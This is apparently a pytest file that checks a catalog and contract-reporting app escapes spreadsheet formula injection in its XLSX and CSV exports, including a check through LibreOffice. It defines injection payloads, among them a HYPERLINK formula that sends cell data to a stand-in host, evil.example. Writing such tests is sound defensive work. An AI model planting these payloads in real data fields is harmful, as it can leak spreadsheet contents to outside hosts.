"""Formula injection: what users typed reaches every spreadsheet export as text, never as a formula.

The attack: a vendor's listing named `=HYPERLINK(...)` approved into an edition, or an SME whose
province is `=HYPERLINK(...)`, landed as live formulas in the officers' Excel files.
"""

import csv
import io
import shutil
import subprocess
from datetime import UTC, date, datetime

import pytest
from openpyxl import Workbook, load_workbook

from catalog import services as catalog_services
from contracts import services as contract_services
from contracts.models import Contract
from core.spreadsheet import append_row, csv_bytes, csv_value
from reports.cli import report_group
from tests.conftest import login

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'
PAYLOADS = (LINK, "+1+2", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_values_that_could_start_a_formula_get_an_apostrophe(payload):
    assert csv_value(payload) == "'" + payload
    assert csv_value("Phần mềm kế toán") == "Phần mềm kế toán"
    assert csv_value(-5) == -5 and csv_value(None) == ""  # numbers stay numbers
    rows = list(csv.reader(io.StringIO(csv_bytes([[payload, 7]]).decode("utf-8-sig"))))
    assert rows == [["'" + payload, "7"]]


def test_xlsx_strings_are_text_cells_and_control_characters_do_not_break_the_file():
    book = Workbook()
    append_row(book.active, [LINK, "a\x01b", 1500000])
    out = io.BytesIO()
    book.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    link, text, number = sheet[1]
    assert (link.value, link.data_type, link.quotePrefix) == (LINK, "s", True)
    assert (text.value, number.value) == ("ab", 1500000)


@pytest.fixture
def poisoned(session, factory):
    """A listing named with a formula in edition 1, and a counted contract of an SME whose province is one."""
    vendor = factory.vendor(name="@SUM(1+1)")
    listing = factory.listing("published", vendor_id=vendor.id, name=LINK, summary="+1+2",
                              integrations=["@SUM(1+1)"])
    catalog_services.publish_edition(session, None, "12/QĐ-SKHCN", date(2026, 12, 1))
    sme = factory.sme(province=LINK)
    signed = datetime(2026, 3, 2, 3, tzinfo=UTC)
    contract = Contract(id="c-f-1", sme_id=sme.id, product_id=listing.id, vendor_id=vendor.id,
                        status="signed", source="import", pricing={"type": "subscription"},
                        pricing_type="subscription",
                        value_vnd=1_800_000, sme_signed_at=signed, vendor_signed_at=signed, extra={})
    session.add(contract)
    session.flush()
    contract_services.count(session, contract, None)
    session.commit()
    return listing


def _xlsx_cells(body: bytes) -> dict:
    book = load_workbook(io.BytesIO(body))
    cells = (c for sheet in book for row in sheet.iter_rows() for c in row)
    return {c.value: c for c in cells if isinstance(c.value, str)}


def _csv_fields(body: bytes) -> set:
    return {v for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for v in row}


def test_every_export_writes_the_payloads_as_text(app, client, factory, poisoned):
    catalog_files = [client.get("/editions/1/export.xlsx"), client.get("/api/v1/catalog?format=xlsx")]
    officer = factory.user("officer")
    factory.session.commit()
    login(client, officer)
    period = "from=2026-01-01&to=2026-12-31&by=province"
    report_files = [client.get(f"/officer/reports/contracts.xlsx?{period}"),
                    client.get("/officer/reports/annual/2026.xlsx")]
    for response in catalog_files + report_files:
        assert response.status_code == 200
    for response in catalog_files:
        cells = _xlsx_cells(response.data)
        for payload in (LINK, "+1+2", "@SUM(1+1)"):
            assert cells[payload].data_type == "s", payload
    for response in report_files:
        assert _xlsx_cells(response.data)[LINK].data_type == "s"

    catalog_csv = _csv_fields(client.get("/editions/1/export.csv").data)
    assert {"'" + LINK, "'+1+2", "'@SUM(1+1)"} <= catalog_csv
    assert "'" + LINK in _csv_fields(client.get(f"/officer/reports/contracts.csv?{period}").data)


def test_the_report_command_writes_the_payloads_as_text(app, poisoned, tmp_path):
    xlsx, csv_file = tmp_path / "r.xlsx", tmp_path / "r.csv"
    result = app.test_cli_runner().invoke(report_group, [
        "contracts", "--from", "2026-01-01", "--to", "2026-12-31", "--by", "province",
        "--xlsx", str(xlsx), "--csv", str(csv_file)])
    assert result.exit_code == 0, result.output
    assert _xlsx_cells(xlsx.read_bytes())[LINK].data_type == "s"
    assert "'" + LINK in _csv_fields(csv_file.read_bytes())


def _libreoffice_csv(path, tmp_path) -> str:
    """The first sheet as LibreOffice computes it: a formula would show its result, text itself."""
    office = shutil.which("soffice") or shutil.which("libreoffice")
    assert office, "LibreOffice (Debian's libreoffice-calc) is needed; scripts/test installs it"
    out = tmp_path / "lo"
    subprocess.run(
        [office, f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--headless", "--convert-to",
         "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(out), str(path)],
        check=True, capture_output=True, timeout=120)
    return (out / (path.stem + ".csv")).read_text(encoding="utf-8")


@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
def test_libreoffice_opens_the_exports_and_shows_text_not_results(app, client, poisoned, tmp_path):
    xlsx, csv_file = tmp_path / "edition.xlsx", tmp_path / "edition.csv"
    xlsx.write_bytes(client.get("/editions/1/export.xlsx").data)
    csv_file.write_bytes(client.get("/editions/1/export.csv").data)
    for path in (xlsx, csv_file):
        shown = _libreoffice_csv(path, tmp_path)
        assert "HYPERLINK" in shown and "+1+2" in shown and "@SUM(1+1)" in shown, shown
        rows = list(csv.reader(io.StringIO(shown)))
        assert not any(v in ("Bấm", "3", "2") for row in rows for v in row), shown
